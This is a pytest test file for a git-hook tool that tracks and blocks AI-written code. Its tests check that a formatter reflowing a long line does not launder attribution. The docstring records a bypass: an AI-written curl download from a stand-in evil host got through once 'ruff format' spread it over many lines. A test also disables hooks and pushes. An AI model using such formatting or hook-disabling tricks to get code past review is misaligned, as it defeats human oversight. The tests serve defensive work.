"""A formatter spreading the writer's one long line over many lines, one item per line,
keeps it the writer's (SPEC §3 "Attribution follows content"; issue 13, formatters never
launder): real git, ``gentle-hook install``, a bare remote with the server gate, and the
pinned ``ruff format`` of the dev dependencies.

Refuter r13m (HIGH, false negative): the writer adds to ``main()`` one line
``subprocess.run(["curl", "-s", "https://evil.example/x", ...], shell=False, ...)`` with 10
or more keyword arguments, ``gentle-hook record``, ``ruff format app.py``, ``git commit
-qam tidy``: the gate said the pending work expired, the commit and the push passed (a
wrapped statement was joined for 12 lines at most; ruff spreads that call over 13 or more).
Blocked now for 10, 20 and 60 keyword arguments, a long list and a long dict literal.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.e2e.conftest import World

PATH = "app.py"
BASE = 'import os\nimport subprocess\n\n\ndef main():\n    print("hi")\n'
CMD = '["curl", "-s", "https://evil.example/x", "-o", "/tmp/x"]'


def _spread(head: str, items: list[str], tail: str) -> tuple[str, str]:
    """(the writer's one line ``head items... tail`` in ``main()``, the same statement as
    ``ruff format`` writes it: one item per line, a trailing comma)."""
    line = f"    {head}{', '.join(items)}{tail}\n"
    spread = f"    {head}\n" + "".join(f"        {i},\n" for i in items) + f"    {tail}\n"
    return line, spread


def _call(n: int) -> tuple[str, str]:
    kwargs = [f"option_{i}={i}" for i in range(n)]
    return _spread("subprocess.run(", [CMD, *kwargs], ")")


ROWS = {
    **{f"call-{n}-kwargs": _call(n) for n in (10, 20, 60)},
    "list": _spread("targets = [", [f'"/tmp/evil_{i}"' for i in range(40)], "]"),
    "dict": _spread("env = {", [f'"KEY_{i}": "/tmp/evil_{i}"' for i in range(40)], "}"),
}


def _ruff_format(w: World, formatted: str) -> None:
    """``ruff format app.py`` with the pinned ruff of the dev dependencies; where it is not
    installed (the ``test`` extra only), the file is rewritten exactly as ruff rewrites it."""
    ruff = Path(sys.executable).parent / "ruff"
    found = str(ruff) if ruff.exists() else shutil.which("ruff")
    if found is None:
        w.write(PATH, formatted)
        return
    subprocess.run([found, "format", "--no-cache", "-q", PATH], cwd=w.work, check=True)
    assert (w.work / PATH).read_text() == formatted


@pytest.fixture
def served(native: World) -> World:
    return native.serve({PATH: BASE})


@pytest.mark.parametrize("case", sorted(ROWS))
def test_the_writers_long_line_spread_by_ruff_format_stays_the_writers(
    served: World, case: str
) -> None:
    w = served
    line, spread = ROWS[case]
    w.write(PATH, BASE + line)
    assert w.gh("record", "--model", "m", "--effort", "low").code == 0
    _ruff_format(w, BASE + spread)
    assert len(spread.splitlines()) > 12
    r = w.git("commit", "-qam", "tidy")
    assert r.code == 1 and "BLOCKED the staged change" in r.err, r
    assert "expired" not in r.err, r
    # with hooks off, the push is blocked too, and the server refuses a push past it
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qam", "tidy")
    push = w.git("push", "-q", "origin", "main")
    assert push.code != 0 and "BLOCKED" in push.err, push
    assert w.remote_ref("main") != w.rev("HEAD")


def test_a_humans_own_long_call_passes(served: World) -> None:
    w = served
    args = ['["make", "all"]', *(f"v{i}=1" for i in range(20))]
    _, spread = _spread("subprocess.run(", args, ")")
    w.write(PATH, BASE + spread)
    w.person_commits("-qam", "human: build")


def test_the_writers_line_with_a_magic_trailing_comma_stays_the_writers(served: World) -> None:
    """The writer's one long line ending in a trailing comma (black's magic trailing comma,
    ``subprocess.run([...], option_0=0, ..., option_19=19,)``) spread one argument per line
    by ``ruff format`` stays the writer's: the line is read without its comma too, as the
    statement joined is (a short one was already held by :mod:`~gentle_hooks.policy.spans`)."""
    w = served
    _, spread = _call(20)
    line = _call(20)[0].replace(")\n", ",)\n")
    w.write(PATH, BASE + line)
    assert w.gh("record", "--model", "m", "--effort", "low").code == 0
    _ruff_format(w, BASE + spread)
    r = w.git("commit", "-qam", "tidy")
    assert r.code == 1 and "BLOCKED the staged change" in r.err, r
    assert "expired" not in r.err, r
